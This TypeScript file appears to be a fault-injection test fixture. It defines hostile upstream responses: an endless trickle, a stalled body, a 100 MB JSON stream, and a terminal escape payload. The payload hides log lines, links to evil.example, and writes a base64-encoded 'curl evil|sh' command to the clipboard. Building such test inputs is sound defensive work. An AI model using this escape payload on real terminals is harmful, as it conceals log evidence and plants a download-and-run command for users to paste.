/**
 * The bodies of the hostile faults. Each is what a real misbehaving upstream sends: a proxy
 * that stalls, a body that never ends, a runaway list, text crafted to drive a terminal.
 */

const ESC = '\u001b';
const BEL = '\u0007';

/**
 * Appended to every free-text field by the `escapes` fault: erase the line (ESC[2K) and move
 * up (ESC[1A) to hide an earlier log line, an OSC 8 hyperlink, an OSC 52 clipboard write,
 * and a C1 CSI (U+009B, the one-character ESC[) that sets a colour.
 */
export const ESCAPE_PAYLOAD = `${ESC}[2K${ESC}[1A${ESC}]8;;https://evil.example/${BEL}click${ESC}]8;;${BEL}${ESC}]52;c;Y3VybCBldmlsfHNo${BEL}\u009b31mred`;

/** How much the `oversized` fault streams. */
export const OVERSIZED_BYTES = 100 * 1024 * 1024;

/** The `trickle` fault's pace. */
export const TRICKLE_INTERVAL_MS = 100;

/** What a route's body starts with: a list (Gitea statuses, smoke lists) or an object. */
export type BodyShape = 'array' | 'object';

/** The first bytes of a body that the `stall-body` fault sends before going silent. */
export const stalledStart = (shape: BodyShape): string => (shape === 'array' ? '[' : '{"ok":true,');

/**
 * How a streamed fault body is written: `head` at once, then `chunk(i)` for i = 0, 1, …
 * (every `intervalMs`, or as fast as the client reads) until `totalBytes` have gone, then
 * `tail` and the end. Without `totalBytes` it never ends; without `chunk` it stops after
 * `head` and goes silent (a stall).
 */
export interface StreamPlan {
  readonly head: string;
  readonly chunk?: (index: number) => string;
  readonly intervalMs?: number;
  readonly totalBytes?: number;
  readonly tail?: string;
}

const PADDING = 'x'.repeat(900);

/** 100 MB of JSON that parses (were it ever read whole): a list of rows, or an object holding one. */
export function oversizedPlan(shape: BodyShape): StreamPlan {
  const rows = `{"id":1,"status":"success","context":"padding","description":"${PADDING}"},`.repeat(64);
  // A last row without a comma closes the list properly.
  const close = '{"id":0,"status":"success","context":"padding","description":""}]';
  return shape === 'array'
    ? { head: '[', chunk: () => rows, totalBytes: OVERSIZED_BYTES, tail: close }
    : { head: '{"ok":true,"results":[', chunk: () => rows, totalBytes: OVERSIZED_BYTES, tail: `${close}}` };
}

/** One byte every 100 ms, forever: the start of a document, then whitespace that keeps it valid. */
export function tricklePlan(shape: BodyShape): StreamPlan {
  const start = stalledStart(shape);
  return { head: '', chunk: (index) => start[index] ?? ' ', intervalMs: TRICKLE_INTERVAL_MS };
}
